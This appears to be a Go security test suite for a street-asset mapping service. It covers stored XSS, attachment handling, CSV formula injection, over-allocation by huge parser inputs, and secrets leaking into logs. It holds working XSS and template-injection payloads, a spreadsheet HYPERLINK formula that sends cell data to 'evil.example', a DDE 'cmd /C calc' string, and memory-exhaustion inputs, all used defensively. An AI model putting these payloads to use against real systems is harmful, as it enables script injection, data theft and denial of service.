package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// chromium is a browser without a window, or a reason to skip.
func chromium(t *testing.T) string {
	t.Helper()
	for _, name := range []string{os.Getenv("NEEDLEPOINT_CHROMIUM"), "chromium-headless-shell", "chromium", "chromium-browser", "google-chrome"} {
		if at, err := exec.LookPath(name); name != "" && err == nil {
			return at
		}
	}
	t.Skip("no Chromium here: NEEDLEPOINT_CHROMIUM names one")
	return ""
}

// browse opens an address, and returns the page as it stands after a while and what the browser complained of.
func browse(t *testing.T, url string) (page, complaints string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium(t), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--user-data-dir="+t.TempDir(),
		"--enable-logging=stderr", "--timeout=8000", "--virtual-time-budget=6000", "--dump-dom", url)
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	if err := cmd.Run(); err != nil && ctx.Err() == nil {
		t.Fatalf("%s: %v\n%.2000s", url, err, errs.String())
	}
	return out.String(), errs.String()
}

// TestAttackStoredScripts keeps scripts in names, refs, keys, values, file names and settings, and has a browser look at them: none runs,
// no markup of theirs becomes part of a page, and the browser's own guard has nothing to report.
func TestAttackStoredScripts(t *testing.T) {
	t.Parallel()
	chromium(t)
	v := attacked(t)
	const image, vector, closing = `<img src=/canary-markup onerror="fetch('/canary-script')">`, `"><svg/onload=fetch('/canary-svg')>`, `</script><script src=/canary-element></script>`
	address := `javascript:fetch('/canary-address')`
	id := v.put(map[string]any{"name": image, "ref": vector, "condition": "damaged", "attributes": map[string]any{
		"notes": closing, image: vector, vector: image, "owner_org": address, "=" + closing: "{{constructor.constructor(\"fetch('/canary-template')\")()}}"}})
	made := v.ask("POST", "/api/imports", map[string]any{"files": []any{map[string]any{"name": image + ".csv", "size": 40}}})
	var job struct{ ID string }
	if made.status == 200 {
		if err := jsonInto(made.body, &job); err != nil {
			t.Fatal(err)
		}
		v.ask("PUT", "/api/imports/"+job.ID+"/files/0?offset=0", []byte(fmt.Sprintf("%-40.40s", image+",lon,lat\n"+vector+",123,41")))
	}
	v.ask("PUT", "/api/settings/basemaps", map[string]any{"default": "x", "items": []any{map[string]any{"key": "x", "name": map[string]string{"zh": image, "en": vector}, "kind": "xyz",
		"url": "https://tiles.example/{z}/{x}/{y}.png", "minzoom": 0, "maxzoom": 19, "attribution": image + closing}}})
	pages := []string{fmt.Sprintf("/ogc/collections/street_light/items/%d?f=html", id), "/ogc/collections/street_light/items?f=html&limit=100&filter=" + escape("condition='damaged'"),
		"/ogc/collections/street_light/items?f=html&ref=" + escape(vector), "/ogc/collections/" + escape(image) + "/items?f=html", "/ogc/api.html?" + escape(image) + "=" + escape(vector)}
	if v.ask("GET", "/map", nil).status == 200 {
		pages = append(pages, fmt.Sprintf("/map#sel=a%d", id), "/map#q="+escape(image), "/import/"+job.ID, "/settings/basemap", "/setup/"+escape(image))
	} else {
		t.Log("not checked: the pages of the interface, which is not built here")
	}
	for _, path := range pages {
		page, complaints := browse(t, v.url+path)
		if strings.Contains(page, "<img src=\"/canary") || strings.Contains(page, "<svg onload") || strings.Contains(page, "<script src=\"/canary") || strings.Contains(page, `href="javascript:`) {
			t.Errorf("%s: markup of a value became part of the page", path)
		}
		if strings.Contains(complaints, "Content Security Policy") {
			t.Errorf("%s: the browser had to stop something: %.1500s", path, complaints)
		}
	}
	for path, kind := range map[string]string{fmt.Sprintf("/api/assets/%d", id): "application/json", "/api/search?q=" + escape(image): "application/json", fmt.Sprintf("/ogc/collections/street_light/items/%d?f=json", id): "application/geo+json"} {
		r := v.ask("GET", path, nil, "Accept", "text/html")
		if !strings.HasPrefix(r.header.Get("Content-Type"), kind) || r.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %v", path, r.header)
		}
	}
	if log := v.ended(); strings.Contains(log, "/canary-") {
		t.Errorf("a script ran, or a picture was fetched:\n%s", log)
	}
}

// TestAttackAttachmentsAreNeverShown asks for every kind of file: each is for keeping, and of a kind that no browser shows as a page.
func TestAttackAttachmentsAreNeverShown(t *testing.T) {
	v := attacked(t)
	v.put(map[string]any{"name": "<script>alert(1)</script>"})
	for _, format := range []string{"geojson", "csv", "gpkg", "ndjson"} {
		r := v.ask("GET", "/api/export?class=street_light&format="+format, nil, "Accept", "text/html")
		disposition, kind := r.header.Get("Content-Disposition"), r.header.Get("Content-Type")
		if r.status != 200 || !strings.HasPrefix(disposition, "attachment;") || strings.Contains(kind, "html") || kind == "" || r.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %d %v", format, r.status, r.header)
		}
	}
}

// TestAttackFormulas keeps what spreadsheets take for formulas: no cell of a table begins with one, and what is imported again is as it was.
func TestAttackFormulas(t *testing.T) {
	v := attacked(t)
	formulas := []string{"=HYPERLINK(\"http://evil.example?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1\n=2", "'=1", "＝1+1"}
	for i, evil := range formulas {
		v.put(map[string]any{"name": strings.Fields(evil)[0], "ref": fmt.Sprintf("F-%d", i), "attributes": map[string]any{"notes": evil, "owner_org": evil, evil: evil}})
	}
	file := filepath.Join(v.dir, "out.csv")
	must(t, "export", file, "--store", v.store, "--class", "street_light")
	written, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	for source, text := range map[string][]byte{"command": written, "service": v.want("GET", "/api/export?format=csv&class=street_light", nil, 200, nil).body} {
		in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(text, []byte("\xef\xbb\xbf"))))
		in.FieldsPerRecord = -1
		rows, err := in.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", source, err)
		}
		found := 0
		for _, row := range rows {
			for _, cell := range row {
				if strings.Contains(cell, "HYPERLINK") {
					found++
				}
				if number := len(cell) > 1 && strings.Trim(cell, "-+.0123456789eE") == ""; cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number {
					t.Errorf("%s: a cell is %q", source, cell)
				}
			}
		}
		if found == 0 {
			t.Errorf("%s: the formulas are not in the table", source)
		}
	}
}

// TestAttackOverAllocation sends what makes parsers set aside far more than they were sent, and shapes that cannot be: refused, in memory
// that is in proportion.
func TestAttackOverAllocation(t *testing.T) {
	t.Parallel()
	v := attacked(t)
	before, begun := v.digest(), v.memory()
	point := func(coordinates string) string {
		return `{"key":"` + newKey() + `","operations":[{"action":"insert","noun":"asset","record":{"class":"street_light","geometry":{"type":"Point","coordinates":` + coordinates + `}}}]}`
	}
	sent := 0
	for _, coordinates := range []string{"[NaN,1]", "[1e999,1]", "[Infinity,1]", "[123.06,41.08,\"x\"]", "[123.06]", "[[123.06,41.08],[1,2,3]]", strings.Repeat("[", 60) + strings.Repeat("]", 60), strings.Repeat("[", 100_000), "[" + strings.Repeat("1,", 2_000_000) + "1]"} {
		body := point(coordinates)
		sent += len(body)
		r := v.ask("POST", "/api/changesets", body, "Content-Type", "application/json")
		if v.refused(fmt.Sprintf("%.60s", coordinates), r); len(r.body) > 64<<10 {
			t.Errorf("%.60s: an answer of %d bytes", coordinates, len(r.body))
		}
	}
	rings := `{"type":"Polygon","coordinates":[` + strings.Repeat("[],", 2_000_000) + `[]]}`
	for what, body := range map[string]string{
		"deep object": strings.Repeat(`{"a":`, 200_000), "deep list": strings.Repeat("[", 4_000_000), "many keys": "{" + strings.Repeat(`"k":1,`, 1_000_000) + `"k":1}`, "long number": strings.Repeat("9", 4_000_000),
		"many rings": `{"geometry":` + rings + `}`, "many faults": `{"operations":[` + strings.Repeat("1,", 100_000) + `1]}`, "escapes": `{"q":"` + strings.Repeat(`\u0041`, 600_000) + `"}`,
	} {
		body = body[:min(len(body), 4_000_000)]
		for _, path := range []string{"/api/changesets", "/api/assets/query", "/api/export", "/api/bulk", "/ogc/collections/street_light/items"} {
			sent += len(body)
			r := v.ask("POST", path, body, "Content-Type", "application/json")
			if v.refused(what+" at "+path, r); len(r.body) > 64<<10 {
				t.Errorf("%s at %s: an answer of %d bytes", what, path, len(r.body))
			}
		}
	}
	header := make([]byte, 200)
	copy(header, []byte{0, 0, 0x27, 0x0a})
	copy(header[24:], []byte{0x7f, 0xff, 0xff, 0xff, 0xe8, 3, 0, 0, 5}) // says that it is 4 GB of polygons
	copy(header[100:], []byte{0, 0, 0, 1, 0x7f, 0xff, 0xff, 0x00, 5})
	copy(header[144:], bytes.Repeat([]byte{0xff, 0xff, 0xff, 0x7f}, 2)) // of two thousand million points each
	for name, data := range map[string][]byte{
		"claims.shp": header, "claims.zip": zipped(t, map[string]string{"a.shp": string(header), "a.shx": string(header[:108]), "a.dbf": "\x03\x01\x01\x01\xff\xff\xff\x7f\xff\xff\xff\xff" + strings.Repeat("\x00", 40)}),
		"commas.csv": []byte("name,lon,lat\n" + strings.Repeat(",", 6_000_000)), "quote.csv": []byte("name,lon,lat\n\"" + strings.Repeat("x", 6_000_000)), "columns.csv": []byte(strings.Repeat("c,", 400_000) + "lon,lat\n"),
		"deep.geojson":  []byte(`{"type":"FeatureCollection","features":[{"type":"Feature","geometry":{"type":"Point","coordinates":` + strings.Repeat("[", 3_000_000)),
		"props.geojson": []byte(`{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"a":` + strings.Repeat(`{"a":`, 500_000)),
	} {
		sent += len(data)
		if made := v.bring(name, data); made.State == "planned" {
			t.Errorf("%s: planned", name)
		}
	}
	if after := v.digest(); after != before {
		t.Errorf("the book holds %s, and held %s", after, before)
	}
	if grown := v.memory() - begun; grown > 400<<20 {
		t.Errorf("%d MB were sent one after the other, none above 6 MB, and memory grew by %d MB", sent>>20, grown>>20)
	} else {
		t.Logf("%d MB were sent, memory grew by %d MB", sent>>20, grown>>20)
	}
}

// TestAttackSecretsInTheLog gives away secrets in every way that clients have, and looks for them in what the program writes.
func TestAttackSecretsInTheLog(t *testing.T) {
	v := attacked(t, "--tls-local")
	v.stop(t)
	v.end <- nil
	v.start()
	secretTool(t, "sesame-of-boss-7", "account", "add", "boss", "--role", "admin", "--stdin", "--store", v.store)
	token := strings.TrimSpace(must(t, "account", "token", "boss", "--label", "x", "--store", v.store))
	var session reply
	inTime(t, "the account", func() bool {
		session = v.ask("POST", "/api/session", map[string]any{"name": "boss", "password": "sesame-of-boss-7"})
		return session.status == 200
	})
	v.ask("POST", "/api/session", map[string]any{"name": "boss", "password": "sesame-wrong-7"})
	v.ask("GET", "/api/assets?token="+token+"&password=sesame-query-7", nil, "Authorization", "Bearer "+token)
	v.ask("GET", "/tiles/1/0/0.mvt", nil, "Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("sesame-user:"+token)))
	v.ask("GET", "/setup/sesame-setup-7", nil)
	v.ask("GET", "/api/setup/sesame-setup-8", nil)
	v.ask("POST", "/api/changesets", `{"password":"sesame-body-7"`, "Content-Type", "application/json", "Authorization", "Bearer "+token)
	cookie, _, _ := strings.Cut(session.header.Get("Set-Cookie"), ";")
	_, cookie, _ = strings.Cut(cookie, "=")
	log := v.ended()
	for what, secret := range map[string]string{"a password": "sesame", "a token": token, "a session": cookie, "a key": "PRIVATE KEY"} {
		if at := strings.Index(log, secret); secret != "" && at >= 0 {
			t.Errorf("%s is in the log: %s", what, log[max(0, at-150):min(len(log), at+80)])
		}
	}
	if cookie == "" || token == "" {
		t.Error("there were no secrets to look for")
	}
}
